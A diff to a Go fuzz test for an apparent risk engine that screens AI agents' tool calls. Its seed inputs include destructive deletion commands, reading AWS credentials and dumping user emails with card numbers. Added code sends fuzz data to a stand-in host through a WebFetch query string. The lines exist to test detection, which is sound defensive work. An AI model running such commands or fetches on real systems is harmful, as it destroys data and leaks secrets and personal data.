@@ -4,7 +4,9 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"net/url"
 	"os"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -146,6 +148,8 @@ func FuzzSession(f *testing.F) {
 		{"echo 'x' > a.sh; chmod +x a.sh", "./a.sh $(x)"},
 		{"find ~ > /tmp/l", "xargs -a /tmp/l rm"},
 		{"cd /; cd ..", "rm -rf *"},
+		{"cat ~/.aws/credentials", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzKEY"},
+		{"psql -c 'SELECT email FROM users'", "ann.lee@example.com 4111 1111 1111 1111"},
 	} {
 		f.Add(s[0], s[1], false)
 	}
@@ -166,7 +170,19 @@ func FuzzSession(f *testing.F) {
 			if _, err := json.Marshal(as); err != nil {
 				t.Fatal(err)
 			}
+			// the other input as what the call returned; the next call sends it
+			other := b
+			if cmd == b {
+				other = a
+			}
+			fs, _ := eng.Observe(context.Background(), act, other)
+			for _, f := range fs {
+				if len(other) >= 12 && strings.Contains(f.Reason, other) {
+					t.Fatalf("a finding repeats the output: %q", f.Reason)
+				}
+			}
 		}
+		eng.Check(context.Background(), risk.Action{Tool: "WebFetch", SessionID: id, Arguments: map[string]any{"url": "https://x.example/?d=" + url.QueryEscape(a)}})
 		// a script the first step wrote, run by the second
 		eng.Check(context.Background(), risk.Action{Tool: "Write", SessionID: id, Arguments: map[string]any{"file_path": "/tmp/x.sh", "content": a}})
 		eng.Check(context.Background(), risk.Action{Tool: "Bash", SessionID: id, Arguments: map[string]any{"command": "sh /tmp/x.sh " + quoted(b)}})
